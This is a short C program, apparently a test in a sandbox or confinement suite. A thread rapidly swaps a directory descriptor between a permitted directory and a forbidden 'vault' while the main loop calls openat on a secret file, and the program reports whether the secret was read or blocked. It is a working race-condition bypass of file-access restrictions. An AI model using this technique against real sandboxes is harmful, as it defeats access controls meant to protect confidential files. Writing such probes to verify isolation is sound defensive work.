// Changes what a descriptor of a directory stands for while a name beside it is opened.

#include "attack.h"

static int granted, foreign, used;
static atomic_bool stop;

static void *changing(void *unused) {
  while (!stop) {
    dup2(granted, used);
    dup2(foreign, used);
  }
  return unused;
}

int main(void) {
  plain(secret_name());
  granted = open(target("ATTACK_WORK"), O_PATH | O_DIRECTORY);
  foreign = open(vault(), O_PATH | O_DIRECTORY);
  if (granted < 0 || foreign < 0) refused("open O_PATH");
  used = dup(granted);
  pthread_t thread;
  if (pthread_create(&thread, 0, changing, 0)) broken("pthread_create");
  const char *name = secret_name();
  for (int index = 0; index < TRIES; index++) {
    int fd = openat(used, name, O_RDONLY);
    if (fd < 0) continue;
    if (is_secret(fd)) won("the secret was read, after %d tries", index + 1);
    close(fd);
  }
  stop = true;
  blocked("0 of %d opens read the secret", TRIES);
}
